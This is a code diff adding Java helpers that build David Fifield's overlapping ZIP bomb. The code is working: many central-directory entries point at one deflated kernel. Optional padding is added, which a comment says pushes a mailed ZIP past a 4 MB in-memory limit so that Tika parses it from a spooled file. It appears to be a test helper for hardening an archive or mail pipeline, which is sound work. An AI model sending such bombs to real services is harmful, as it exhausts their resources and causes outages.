@@ -4,6 +4,8 @@ import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.OutputStream;
 import java.io.UncheckedIOException;
+import java.nio.ByteBuffer;
+import java.nio.ByteOrder;
 import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
 import java.util.Collection;
@@ -278,5 +280,73 @@ public final class Archives {
             current = Formats.zip(copies);
         }
         return current;
+    }
+    /**
+     * David Fifield's overlapping ZIP bomb in its simplest form: one deflated kernel of {@code size} bytes of text and
+     * {@code n} central-directory entries ("0.txt", "1.txt"...) that all point at it. With {@code paddingBytes} over 0,
+     * a stored entry "padding.bin" of that many pseudo-random bytes comes first: a ZIP attached to a mail is held in
+     * memory up to 4 MB, a larger one is spooled to a file, which Tika opens by its central directory.
+     */
+    public static byte[] overlappingZip(int n, int size, int paddingBytes) {
+        byte[] text = new byte[size];
+        byte[] line = "The consul reported troop movements along the border. ".getBytes(StandardCharsets.US_ASCII);
+        for (int i = 0; i < size; i++) {
+            text[i] = line[i % line.length];
+        }
+        java.util.zip.Deflater deflater = new java.util.zip.Deflater(9, true);
+        deflater.setInput(text);
+        deflater.finish();
+        ByteArrayOutputStream k = new ByteArrayOutputStream();
+        byte[] buf = new byte[65536];
+        while (!deflater.finished()) {
+            k.write(buf, 0, deflater.deflate(buf));
+        }
+        deflater.end();
+        byte[] kernel = k.toByteArray();
+        byte[] padding = new byte[paddingBytes];
+        new java.util.Random(55).nextBytes(padding);
+        ByteBuffer out = ByteBuffer.allocate(kernel.length + paddingBytes + 1024).order(ByteOrder.LITTLE_ENDIAN);
+        ByteBuffer cd = ByteBuffer.allocate(64 * (n + 1)).order(ByteOrder.LITTLE_ENDIAN);
+        if (paddingBytes > 0) {
+            localHeader(out, "padding.bin", 0, crc(padding), padding.length, padding.length).put(padding);
+            centralHeader(cd, "padding.bin", 0, crc(padding), padding.length, padding.length, 0);
+        }
+        int kernelAt = out.position();
+        localHeader(out, "0.txt", 8, crc(text), kernel.length, size).put(kernel);
+        for (int i = 0; i < n; i++) {
+            centralHeader(cd, i + ".txt", 8, crc(text), kernel.length, size, kernelAt);
+        }
+        return withCentralDirectory(out, cd, n + (paddingBytes > 0 ? 1 : 0));
+    }
+
+    private static ByteBuffer localHeader(ByteBuffer out, String name, int method, int crc, int packed, int size) {
+        byte[] n = name.getBytes(StandardCharsets.US_ASCII);
+        return out.putInt(0x04034b50).putShort((short) 20).putShort((short) 0).putShort((short) method).putInt(0)
+                .putInt(crc).putInt(packed).putInt(size).putShort((short) n.length).putShort((short) 0).put(n);
+    }
+
+    private static void centralHeader(ByteBuffer cd, String name, int method, int crc, int packed, int size,
+                                      int localHeaderAt) {
+        byte[] n = name.getBytes(StandardCharsets.US_ASCII);
+        cd.putInt(0x02014b50).putShort((short) 20).putShort((short) 20).putShort((short) 0).putShort((short) method)
+                .putInt(0).putInt(crc).putInt(packed).putInt(size).putShort((short) n.length).putShort((short) 0)
+                .putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0).putInt(localHeaderAt).put(n);
+    }
+
+    /** The entries written in {@code out}, then the central directory {@code cd} of {@code count}, then the end. */
+    public static byte[] withCentralDirectory(ByteBuffer out, ByteBuffer cd, int count) {
+        int cdOffset = out.position();
+        int cdSize = cd.position();
+        ByteBuffer all = ByteBuffer.allocate(cdOffset + cdSize + 22).order(ByteOrder.LITTLE_ENDIAN);
+        all.put(out.array(), 0, cdOffset).put(cd.array(), 0, cdSize);
+        all.putInt(0x06054b50).putShort((short) 0).putShort((short) 0).putShort((short) count)
+                .putShort((short) count).putInt(cdSize).putInt(cdOffset).putShort((short) 0);
+        return all.array();
+    }
+
+    private static int crc(byte[] bytes) {
+        java.util.zip.CRC32 c = new java.util.zip.CRC32();
+        c.update(bytes);
+        return (int) c.getValue();
     }
 }
